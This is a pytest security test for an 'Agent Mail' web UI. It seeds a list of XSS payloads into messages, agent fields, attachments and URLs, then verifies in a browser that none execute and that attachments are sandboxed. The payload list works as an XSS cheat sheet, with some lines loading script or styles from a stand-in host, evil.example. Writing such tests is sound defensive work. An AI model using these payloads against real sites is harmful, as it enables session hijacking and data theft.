"""An XSS corpus through every place user text reaches the web UI (subjects, bodies, task
descriptions, project keys, thread ids, search and URL parameters), replayed in a real browser:
no payload runs, no dangerous link or remote image is left, and the CSP never had to step in
(a CSP report would mean markup got through the escaping)."""

import base64
from urllib.parse import quote

import httpx
import pytest

from .browser import chromium
from .servers import running_server

X = "window.__xss=1"
ACTIVE = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{X}'><script>{X}</script></svg>".encode()  # attachments' content
PAYLOADS = [
    f"<script>{X}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={X}>",
    f"<img src=x onerror=alert(1)>",
    f'<img src="javascript:{X}">',
    f"<svg onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f"<body onload={X}>",
    f"<iframe src=javascript:{X}></iframe>",
    f'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"<object data=javascript:{X}></object>",
    f"<embed src=javascript:{X}>",
    f"<a href=javascript:{X}>click</a>",
    f'<a href="jav&#x09;ascript:{X}">tab</a>',
    f"<details open ontoggle={X}>",
    f"<input autofocus onfocus={X}>",
    f"<select autofocus onfocus={X}>",
    f"<textarea autofocus onfocus={X}>",
    f"<video><source onerror={X}></video>",
    f"<audio src=x onerror={X}>",
    f"<marquee onstart={X}>",
    f"<div style=\"background:url(javascript:{X})\">css</div>",
    f"<style>@import 'http://evil.example/x.css';</style>",
    f"<style>*{{background:url(//evil.example/x)}}</style>",
    f"<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{X}\">",
    f"<base href=//evil.example/>",
    f"<form action=javascript:{X}><button>go</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={X}>\">",
    f"\"><script>{X}</script>",
    f"'><img src=x onerror={X}>",
    f"</textarea><script>{X}</script>",
    f"</title><script>{X}</script>",
    f"<!--<img src=\"--><img src=x onerror={X}//\">",
    f"{{{{constructor.constructor('{X}')()}}}}",
    f"${{alert(1)}}",
    f"[link](javascript:{X})",
    f"[link](JaVaScRiPt:{X})",
    f"[link](javascript&#58;{X})",
    f"[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f"[link](vbscript:msgbox(1))",
    f"![img](javascript:{X})",
    f"![img](http://evil.example/track.png)",
    f"![x\" onerror=\"{X}](x)",
    f"[a](http://x.example \"title\" onclick=\"{X}\")",
    f"<http://evil.example/\"onmouseover=\"{X}>",
    f"[x]: javascript:{X}\n\n[ref][x]",
    f"```html\n<script>{X}</script>\n```",
    f"`<img src=x onerror={X}>`",
    f"<scr<script>ipt>{X}</script>",
    f"<a href=\"&#106;avascript:{X}\">entity</a>",
    f"<img src=x:alert(1) onerror=eval(src)>",
    f"<svg><a xlink:href=javascript:{X}><text y=20>x</text></a></svg>",
    f"<isindex type=image src=1 onerror={X}>",
]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with running_server(tmp_path_factory.mktemp("webui-xss") / "agent_mail.db") as url:
        api = httpx.Client(base_url=url, timeout=30)

        def call(tool, **args):
            answer = api.post(f"/api/{tool}", json=args)
            assert answer.status_code == 200, answer.text
            return answer.json()

        slug = call("ensure_project", human_key="/x/" + PAYLOADS[0] + PAYLOADS[2])["slug"]
        call("register_agent", project_key=slug, program=PAYLOADS[5], model=PAYLOADS[3], name="BlueLake",
             task_description="\n".join(PAYLOADS))
        call("register_agent", project_key=slug, program="p", model="m", name="GreenCastle", task_description=PAYLOADS[16])
        call("set_contact_policy", project_key=slug, agent_name="GreenCastle", policy="open")
        threads = []
        for i, payload in enumerate(PAYLOADS):
            thread_id = payload[:128] if i % 5 == 0 else "bodies"
            sent = call("send_message", project_key=slug, sender_name="BlueLake", to=["GreenCastle"], subject=payload[:512],
                        body_md=payload, thread_id=thread_id, ack_required=i % 2 == 0)
            if i % 5 == 0:
                threads.append(sent["message"]["thread_id"])
        call("file_reservation_paths", project_key=slug, agent_name="BlueLake", paths=["src/x"], reason=PAYLOADS[2])
        # Attachments named with every payload a file name can carry, typed as what a browser
        # would run (HTML, SVG), and an "image/png" that is really SVG.
        names = [p for p in PAYLOADS if not any(c in p for c in "/\\\n") and p not in (".", "..")]
        types = ["text/html", "image/svg+xml", "image/png", "text/plain"]
        files = [{"name": name, "media_type": types[i % 4], "content_base64": base64.b64encode(ACTIVE + bytes([i])).decode()}
                 for i, name in enumerate(names)]
        for start in range(0, len(files), 20):
            call("send_message", project_key=slug, sender_name="BlueLake", to=["GreenCastle"], subject=PAYLOADS[2],
                 body_md="files", thread_id="files", attachments=files[start:start + 20])
        yield url, slug, threads


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)


def test_no_payload_runs_anywhere(site):
    url, slug, threads = site
    p = quote(slug)
    pages = [
        "/", "/ui/projects", f"/ui/project?p={p}", f"/ui/agent?p={p}&a=BlueLake", f"/ui/agent?p={p}&a=GreenCastle",
        f"/ui/thread?p={p}&t=bodies", f"/ui/thread?p={p}&t=files",
        *[f"/ui/thread?p={p}&t={quote(t)}" for t in threads],
        f"/ui/search?p={p}&q=script", f"/ui/search?q={quote(PAYLOADS[2])}&sender={quote(PAYLOADS[31])}",
        f"/ui/project?p={quote(PAYLOADS[0])}", f"/ui/thread?p={p}&t={quote(PAYLOADS[32])}",
        f"/ui/compose?p={p}&to={quote(PAYLOADS[31])}", f"/ui/login?next={quote('javascript:' + X)}",
    ]
    with chromium() as browser:
        context = browser.new_context()
        remote = []
        context.route(lambda u: not u.startswith(url), lambda route: (remote.append(route.request.url), route.abort()))
        page = context.new_page()
        dialogs, problems = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        # Two of the pages are 404s on purpose (a payload as project key or thread id): their
        # "failed to load" notes are expected; anything else (a CSP report above all) is not.
        page.on("console", lambda msg: msg.type in ("error", "warning") and "status of 404" not in msg.text
                and problems.append(msg.text))
        page.on("pageerror", lambda exc: problems.append(str(exc)))
        for path in pages:
            page.goto(url + path)
            page.wait_for_load_state("load")
            page.evaluate("document.querySelectorAll('input, select, textarea, details').forEach(e => e.focus())")
            assert page.evaluate("window.__xss") is None, path
            assert page.title().endswith("· Agent Mail"), path
            dangerous = page.evaluate(
                "Array.from(document.querySelectorAll('[href],[src],[action],[formaction],[data]'))"
                ".map(e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action') || e.getAttribute('data') || '')"
                ".filter(v => /^\\s*(javascript|vbscript|data):/i.test(v))"
            )
            assert dangerous == [] and page.locator("[srcdoc]").count() == 0, path
            handlers = page.evaluate(
                "Array.from(document.querySelectorAll('*')).flatMap(e => Array.from(e.attributes)"
                ".filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name))"
            )
            assert handlers == [], path
            assert page.locator("main img:not(.attachments img), main iframe, main object, main embed, main svg, main style,"
                                " main script").count() == 0, path
            images = page.evaluate("Array.from(document.querySelectorAll('main img')).map(i => i.getAttribute('src'))")
            assert all(src.startswith("/ui/attachment?") for src in images), path  # attachments only: never SVG or HTML
        thread = page.goto(f"{url}/ui/thread?p={p}&t=bodies")
        assert thread.ok and page.locator("article.msg").count() >= 40
        assert page.locator("article.msg", has_text="<img src=x onerror=window.__xss=1>").count() >= 1  # shown as text
        page.goto(f"{url}/ui/thread?p={p}&t=files")
        assert page.locator(".attachments a.file", has_text="<img src=x onerror=window.__xss=1>").count() >= 1
        inline = page.evaluate("Array.from(document.querySelectorAll('.attachments img')).map(i => [i.alt, i.naturalWidth])")
        assert inline and all(width == 0 for _, width in inline)  # the "image/png" that is SVG: never rendered
        for href in page.evaluate("Array.from(document.querySelectorAll('.attachments a')).map(a => a.href)"):
            answer = httpx.get(href)
            assert answer.headers["x-content-type-options"] == "nosniff", href
            assert answer.headers["content-security-policy"].startswith("sandbox;"), href
            assert answer.headers["content-type"] in ("image/png", "application/octet-stream"), href
            if answer.headers["content-type"] == "image/png":
                assert answer.headers["content-disposition"].startswith("inline;") and "download=1" not in href
            else:
                assert answer.headers["content-disposition"].startswith("attachment;"), href
        context.close()
    assert dialogs == [] and remote == [] and problems == []
